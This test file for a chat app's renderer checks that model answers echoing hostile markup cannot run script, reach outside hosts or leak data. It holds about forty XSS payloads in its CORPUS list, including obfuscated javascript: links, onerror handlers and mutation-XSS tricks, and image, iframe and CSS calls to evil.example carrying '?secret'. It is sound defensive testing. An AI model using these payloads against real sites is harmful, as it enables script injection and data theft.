/** A model that says what an attacker told it to say: nothing runs, nothing is fetched, no address leads to code. */
import { expect, test } from 'vitest'
import { openHouse, shot } from './house.ts'

const house = openHouse()

/** Every line tries to call `owned()` or to reach another site. */
const CORPUS = [
  '<script>owned()</script>',
  '<img src=x onerror=owned()>',
  '<img src="https://evil.example/p.png?secret">',
  '![picture](https://evil.example/p.png?secret)',
  '![picture][ref]\n\n[ref]: https://evil.example/r.png',
  '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0ib3duZWQoKSIvPg==)',
  '[click](javascript:owned())',
  '[click](JaVaScRiPt:owned())',
  '[click](java&#10;script:owned())',
  '[click](data:text/html,<script>owned()</script>)',
  '[click](vbscript:owned())',
  '<a href="javascript:owned()">click</a>',
  '<javascript:owned()>',
  '<svg onload=owned()><circle /></svg>',
  '<svg><script>owned()</script></svg>',
  '<svg><use href="https://evil.example/s.svg#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=owned()></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<link rel=stylesheet href="https://evil.example/l.css"><style>@import "https://evil.example/i.css";</style>',
  '<div style="background:url(https://evil.example/b.png)">styled</div>',
  '<video src="https://evil.example/v" onerror=owned() autoplay></video>',
  '<audio src=x onerror=owned()></audio>',
  '<form action="https://evil.example/f"><button autofocus onfocus=owned()>go</button></form>',
  '<input onfocus=owned() autofocus>',
  '<details open ontoggle=owned()>open</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<p id=app class="toast dialog">clobber</p><form id=boot name=location></form>',
  '$\\href{javascript:owned()}{x}$ and $\\includegraphics{https://evil.example/k.png}$',
  '$\\htmlData{x=y}{z} \\url{javascript:owned()}$',
  '```html\n<script>owned()</script><img src=x onerror=owned()>\n```',
  '| a |\n|---|\n| <img src=x onerror=owned()> |',
  '[<img src=x onerror=owned()>](https://example.com)',
  '`<img src=x onerror=owned()>`',
  '<<script>script>owned()<</script>/script>',
  '<img src="`><script>owned()</script>">',
  '<noscript><p title="</noscript><img src=x onerror=owned()>">',
  '[x](https://example.com "onmouseover=owned() \\"><img src=x onerror=owned()>")',
]

/** What must not be anywhere in a message, however it came there. */
const FORBIDDEN =
  'script, iframe, object, embed, link, style, base, meta, form, input:not([type=checkbox]), video, audio, foreignObject, use, [onerror], [onload], [onfocus], [ontoggle], [onclick], [srcdoc], #app, #boot'

test.each([
  ['all at once', CORPUS.join('\n\n')],
  ['one after another, unclosed', CORPUS.filter((line) => line.startsWith('<')).join('')],
])('%s: while it streams, when it is over, and after a reload', async (_, corpus) => {
  const { page, chat } = await house.guest('/c/new', { reducedMotion: 'reduce' })
  const outside: string[] = []
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (url.origin !== house.url && !/^(data|blob):$/.test(url.protocol)) outside.push(request.url())
  })
  page.on('dialog', (dialog) => {
    outside.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    Object.assign(globalThis, {
      owned() {
        ;(globalThis as unknown as { isOwned: boolean }).isOwned = true
      },
    })
  })
  await page.reload()

  const clean = async (when: string) => {
    const found = await page.evaluate((forbidden) => {
      const all = [...document.querySelectorAll('article')]
      const links = all.flatMap((article) => [...article.querySelectorAll('a[href]')])
      return {
        owned: 'isOwned' in globalThis,
        elements: all.flatMap((article) =>
          [...article.querySelectorAll(forbidden)].map((e) => e.outerHTML.slice(0, 200)),
        ),
        links: links
          .map((link) => (link as HTMLAnchorElement).href)
          .filter((href) => !/^(https?:|mailto:)/.test(href)),
        base: document.baseURI === location.href,
      }
    }, FORBIDDEN)
    expect(found, when).toEqual({ owned: false, elements: [], links: [], base: true })
    expect(outside, when).toEqual([])
  }

  await chat.send(`[[echo paced-150]] ${corpus}`)
  await chat.is('open')
  for (let n = 0; (await chat.answer.getAttribute('data-state')) === 'open'; n++)
    await clean(`streaming ${n}`)
  await chat.is('settled')
  await clean('settled')
  await shot(page, 'hostile')
  // Whatever can be pointed at or focused is, once.
  for (const link of await chat.answer.locator('a').all()) await link.hover({ timeout: 2000 }).catch(() => {})
  for (let n = 0; n < 40; n++) await page.keyboard.press('Tab')
  await clean('touched')
  await page.reload()
  await chat.is('settled')
  await clean('after a reload')
})

test('links of an answer open elsewhere and carry nothing along', async () => {
  const { page, chat } = await house.guest()
  await chat.ask('[[echo]] see [this](https://example.com/page) and <https://example.org>')
  const links = await chat.answer
    .locator('a[href^="https:"]')
    .evaluateAll((all) => (all as HTMLAnchorElement[]).map(({ target, rel }) => ({ target, rel })))
  expect(links).toHaveLength(2)
  for (const { target, rel } of links) {
    expect(target).toBe('_blank')
    expect(rel).toContain('noopener')
    expect(rel).toContain('noreferrer')
  }
  expect(
    await page.evaluate(() => document.querySelector('meta[name=referrer]')?.getAttribute('content')),
  ).toBe('no-referrer')
})

test('what a person typed is shown as typed', async () => {
  const { page, chat } = await house.guest()
  // An echo is too long for a title, so the first words stay the name of the conversation.
  const text = '[[echo]] <b onclick=alert(1)>bold</b> **stars** <img src=x onerror=alert(1)>'
  await chat.ask(text)
  expect(await chat.question.textContent()).toContain(text)
  expect(await chat.question.locator('img, b, strong').count()).toBe(0)
  // Also as the title in the list and in the tab.
  await chat.list.getByText('<b onclick=alert(1)>bold</b>').first().waitFor()
  expect(await page.title()).toContain('<b onclick')
})
